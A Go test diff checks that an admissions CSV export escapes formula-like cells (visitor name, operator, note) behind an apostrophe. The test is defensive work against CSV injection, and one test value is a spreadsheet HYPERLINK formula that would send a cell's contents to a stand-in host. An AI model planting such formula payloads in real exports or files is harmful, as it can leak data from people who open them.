@@ -170,13 +170,24 @@ func TestExportCSV(t *testing.T) {
 	kv, _ := e.js.KeyValue(context.Background(), bus.BucketEntitlements)
 	ent, _ := e.enrollKey.SignMessage(signed.Entitlement, &sgpb.Entitlement{TicketId: "T1", VisitorName: "赵六"}, time.Now())
 	kv.Put(context.Background(), "T1", ent)
-	waitFor(t, "the mirror", func() bool { _, err := e.admin.Store().Entitlement(context.Background(), "T1"); return err == nil })
+	// A ticket shop can name a visitor anything, a formula too.
+	const hostile = `=HYPERLINK("http://example.invalid/?"&A1,"赵七")`
+	ent, _ = e.enrollKey.SignMessage(signed.Entitlement, &sgpb.Entitlement{TicketId: "T2", VisitorName: hostile}, time.Now())
+	kv.Put(context.Background(), "T2", ent)
+	waitFor(t, "the mirror", func() bool {
+		_, err1 := e.admin.Store().Entitlement(context.Background(), "T1")
+		_, err2 := e.admin.Store().Entitlement(context.Background(), "T2")
+		return err1 == nil && err2 == nil
+	})
 	at := time.Date(2026, 5, 1, 9, 30, 0, 0, time.FixedZone("CST", 8*3600))
 	publishAdmission(t, e.js, &sgpb.Admission{EventId: "ev-1", GateId: "north-1", TicketId: "T1", Decision: sgpb.Decision_DECISION_ALLOW,
 		Reason: "ok", Method: sgpb.Method_METHOD_FACE, Direction: sgpb.Direction_DIRECTION_ENTRY, AtMs: at.UnixMilli(), EntryNumber: 1, Distance: 0.31})
 	publishAdmission(t, e.js, &sgpb.Admission{EventId: "ev-2", GateId: "north-1", Decision: sgpb.Decision_DECISION_DENY,
 		Reason: "unknown", Method: sgpb.Method_METHOD_FACE, AtMs: at.AddDate(0, 0, 1).UnixMilli()})
-	waitFor(t, "two admissions", func() bool { l, _ := e.admin.Store().RecentAdmissions(context.Background(), 5); return len(l) == 2 })
+	publishAdmission(t, e.js, &sgpb.Admission{EventId: "ev-3", GateId: "north-1", TicketId: "T2", Decision: sgpb.Decision_DECISION_ALLOW,
+		Reason: "manual", Method: sgpb.Method_METHOD_MANUAL, Direction: sgpb.Direction_DIRECTION_ENTRY, AtMs: at.Add(time.Hour).UnixMilli(),
+		Operator: "@staff", Note: "-1+1 wheelchair"})
+	waitFor(t, "three admissions", func() bool { l, _ := e.admin.Store().RecentAdmissions(context.Background(), 5); return len(l) == 3 })
 
 	c := e.client()
 	c.mustLogin("viewer1", "viewer-pass")
@@ -191,14 +202,18 @@ func TestExportCSV(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	if len(rows) != 2 || rows[0][0] != "时间" || rows[1][0] != "2026-05-01 09:30:00" || rows[1][4] != "赵六" || rows[1][5] != "入园" || rows[1][7] != "ok" {
-		t.Errorf("CSV rows = %q; want the header and one admission of 赵六 at 09:30", rows)
+	if len(rows) != 3 || rows[0][0] != "时间" || rows[1][0] != "2026-05-01 09:30:00" || rows[1][4] != "赵六" || rows[1][5] != "入园" || rows[1][7] != "ok" {
+		t.Fatalf("CSV rows = %q; want the header, the admission of 赵六 at 09:30 and one at 10:30", rows)
+	}
+	// Cells that begin like a formula are shown as text.
+	if got := rows[2]; got[4] != "'"+hostile || got[16] != "'@staff" || got[17] != "'-1+1 wheelchair" || got[6] != "人工开闸" {
+		t.Errorf("CSV row of the manual open = %q; want the name, operator and note behind an apostrophe", got)
 	}
 	if a := c.get("/export/admissions.csv?from=2026-05-02&to=2026-05-01"); a.status != http.StatusBadRequest {
 		t.Errorf("reversed range: %d; want 400", a.status)
 	}
 	audit, _, _ := e.admin.Store().Audit(context.Background(), store.AuditFilter{Action: "export"})
-	if len(audit) != 1 || audit[0].Detail != "rows=1" || audit[0].Actor != "viewer1" {
+	if len(audit) != 1 || audit[0].Detail != "rows=2" || audit[0].Actor != "viewer1" {
 		t.Errorf("export audit rows = %+v", audit)
 	}
 }
